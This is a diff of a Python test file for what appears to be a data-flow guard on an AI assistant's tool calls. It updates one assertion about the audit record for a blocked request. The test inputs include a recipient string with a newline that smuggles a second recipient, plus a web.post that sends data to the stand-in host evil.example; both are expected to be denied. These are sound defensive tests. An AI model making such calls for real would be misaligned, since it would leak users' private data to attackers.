@@ -128,7 +128,7 @@ def test_private_data_may_reach_only_a_destination_among_its_readers(h):
                      "eve@evil.example\nbob@corp.example"):  # one string, two recipients to the mail tool
         flow_denied(h.call("assistant", "mail.send", {"to": smuggled, "body": "launch"}), "to", "notes.read")
     d = h.call("assistant", "web.post", {"url": "https://evil.example/x", "body": "launch"})
-    assert d.code == "FLOW_DENIED" and d.audit["flow"]["arg"] == "url"
+    assert d.code == "FLOW_DENIED" and d.audit["flow"]["arg"] == "(data)" and "admit argument 'url'" in d.audit["flow"]["rule"]
 
 
 def test_approve_mode_parks_the_call_for_a_human_bound_to_that_call(h):
